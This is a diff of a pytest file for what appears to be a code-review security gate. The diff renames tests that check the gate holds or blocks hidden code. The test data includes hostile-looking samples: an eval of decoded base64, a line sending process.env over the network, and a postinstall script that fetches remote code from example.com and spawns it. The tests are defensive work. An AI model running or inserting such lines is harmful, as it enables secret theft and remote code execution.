@@ -25,7 +25,7 @@ def with_limit(gate: Gate, files: int) -> Gate:
     return replace(gate, policy=replace(gate.policy, limits=replace(gate.policy.limits, files=files)))
 
 
-def test_no_number_of_texts_keeps_code_from_being_read(gate: Gate) -> None:
+def test_many_text_files_do_not_hide_code(gate: Gate) -> None:
     texts = {f"a/{number}.txt": "x" for number in range(20)}
     seen = with_limit(gate, 5).review({**texts, "z.py": PYTHON_SHELL}, "python3 z.py")
     assert not seen.verdict.passed
@@ -33,7 +33,7 @@ def test_no_number_of_texts_keeps_code_from_being_read(gate: Gate) -> None:
     assert seen.of("RSK-size") == []
 
 
-def test_code_beyond_the_limits_is_held_and_what_is_not_read_is_named(gate: Gate) -> None:
+def test_code_over_the_limits_is_held_and_unread_files_named(gate: Gate) -> None:
     scripts = {f"a/{number}.js": "" for number in range(4)}
     seen = with_limit(gate, 2).review({**scripts, "z.py": PYTHON_SHELL}, "python3 z.py")
     (held,) = seen.verdict.open
@@ -69,24 +69,24 @@ BLOCKED = {
 
 
 @pytest.mark.parametrize(("files", "entrypoint", "rule"), BLOCKED.values(), ids=BLOCKED)
-def test_nothing_hides_in_what_is_long(gate: Gate, files: Files, entrypoint: str, rule: str) -> None:
+def test_long_lines_and_files_do_not_hide_code(gate: Gate, files: Files, entrypoint: str, rule: str) -> None:
     assert rule in gate.review(files, entrypoint).rules(Severity.BLOCK)
 
 
 @pytest.mark.parametrize(
     "code", [HIDDEN, "payload=atob('MQ==');eval(payload);", "all=process.env;net.send(all);"], ids=str
 )
-def test_what_would_be_blocked_is_held_in_a_minified_line(gate: Gate, code: str) -> None:
+def test_blocking_rule_holds_in_a_minified_line(gate: Gate, code: str) -> None:
     seen = gate.review({"app.js": f"{code}var data='{LONG}';"}, "node app.js")
     assert [(finding.rule, finding.severity) for finding in seen.verdict.open] == [("RSK-minified", Severity.HOLD)]
 
 
-def test_the_short_names_of_a_minifier_say_nothing(gate: Gate) -> None:
+def test_short_names_of_a_minifier_are_ignored(gate: Gate) -> None:
     code = f"var e=process.env;function f(e){{s.send(e)}}var t=atob('MQ==');function g(t){{new Function(t)}}'{LONG}';"
     assert gate.review({"app.js": code}, "node app.js").verdict.passed
 
 
-def test_half_of_a_surrogate_pair_is_no_reason_to_block(gate: Gate) -> None:
+def test_lone_surrogate_does_not_block(gate: Gate) -> None:
     assert gate.review({"app.py": "PATTERN = '[\\ud800-\\udfff] and more'\n"}).verdict.passed
 
 
@@ -105,7 +105,7 @@ UNNAMED = {
 
 
 @pytest.mark.parametrize(("files", "entrypoint"), UNNAMED.values(), ids=UNNAMED)
-def test_what_is_started_is_read_whatever_it_is_called(gate: Gate, files: Files, entrypoint: str) -> None:
+def test_started_file_is_scanned_under_any_name(gate: Gate, files: Files, entrypoint: str) -> None:
     assert any(rule.startswith("MAL-") for rule in gate.review(files, entrypoint).rules(Severity.BLOCK))
 
 
@@ -123,12 +123,12 @@ OPAQUE: dict[str, tuple[Files, str]] = {
 
 
 @pytest.mark.parametrize(("files", "entrypoint"), OPAQUE.values(), ids=OPAQUE)
-def test_what_nobody_can_read_is_held(gate: Gate, files: Files, entrypoint: str) -> None:
+def test_unreadable_program_is_held(gate: Gate, files: Files, entrypoint: str) -> None:
     held = gate.review(files, entrypoint).verdict.open
     assert [(finding.rule, finding.severity) for finding in held] == [("RSK-binary", Severity.HOLD)]
 
 
-def test_data_is_not_held_for_being_data(gate: Gate) -> None:
+def test_data_files_are_not_held(gate: Gate) -> None:
     data = {"a.db": b"SQLite format 3\0", "a.zip": b"PK\x03\x04\0", "static/a.wasm": b"\0asm\1\0\0\0"}
     cache = {"__pycache__/app.cpython-313.pyc": b"\xf3\r\r\n\0\0\0\0time"}
     app = {"app.py": "open('a.db')\n", "start.sh": "exec datasette ./a.db\n"}
@@ -136,7 +136,7 @@ def test_data_is_not_held_for_being_data(gate: Gate) -> None:
         assert gate.review({**data, **cache, **app}, entrypoint).verdict.passed
 
 
-def test_who_accepts_an_install_script_accepts_that_content_of_it(gate: Gate) -> None:
+def test_accepted_install_script_is_bound_to_its_content(gate: Gate) -> None:
     package = '{"scripts": {"postinstall": "node setup.js"}}'
     setup = "fetch('https://example.com/x').then((code) => spawn(code));\n"
     (blocked,) = gate.review({"app.js": "1", "package.json": package, "setup.js": setup}, "node app.js").verdict.open
